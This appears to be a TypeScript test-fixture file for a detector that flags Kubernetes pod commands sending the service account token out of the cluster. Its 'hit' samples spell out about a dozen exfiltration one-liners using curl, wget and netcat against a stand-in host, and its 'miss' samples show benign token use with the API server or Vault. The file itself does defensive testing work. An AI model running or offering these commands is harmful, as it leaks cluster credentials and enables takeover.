import type { Sample } from "../sample.ts";
import { hit, miss, pod } from "../variants.ts";
import { jsonPatch, onSpec, withContainer } from "./on-spec.ts";

const token = "/var/run/secrets/kubernetes.io/serviceaccount/token";
const script = (text: string) => withContainer({ command: ["sh", "-c", text] });

export const podCommandHandsOutItsToken: readonly Sample[] = [
  ...onSpec("curl -d @token", script(`curl -s -d @${token} https://198.51.100.7`), "the token is sent away"),
  ...[
    `curl --data-binary @${token} https://198.51.100.7/x`,
    `curl -F t=@/run/secrets/kubernetes.io/serviceaccount/token 198.51.100.7`,
    `curl https://198.51.100.7 -T ${token}`,
    `wget --post-file=${token} https://198.51.100.7`,
    `cat ${token} | nc 198.51.100.7 999`,
    `apt install -y netcat; cat ${token} | base64 | nc 198.51.100.7 999`,
    `cat ${token} | curl -d @- https://198.51.100.7`,
    `curl -d "$(cat ${token})" https://198.51.100.7`,
    `nc 198.51.100.7 999 < ${token}`,
  ].map((text) => hit(text, pod(script(text)), "the token is sent away")),
  hit(
    "as arguments",
    pod(withContainer({ image: "curlimages/curl", args: ["-d", `@${token}`, "https://198.51.100.7"] })),
    "the image is curl",
  ),
  hit("by JSON patch", jsonPatch("/containers/0/args", ["-c", `cat ${token} | nc 198.51.100.7 9`]), "the same"),
  ...[
    `curl -H "Authorization: Bearer $(cat ${token})" https://kubernetes.default.svc/api`,
    `TOKEN=$(cat ${token}); curl -d @body.json -H "Authorization: Bearer $TOKEN" https://kubernetes.default.svc`,
    `curl -sk -X POST -d @body.json -H "Authorization: Bearer $(cat ${token})" https://kubernetes.default.svc`,
    `curl -d @report.json https://reports.example.com`,
    `cat ${token} | cut -d. -f2`,
    `vault login -method=kubernetes jwt=@${token}`,
  ].map((text) => miss(text, pod(script(text)), "the token is shown to the API server, or stays")),
];
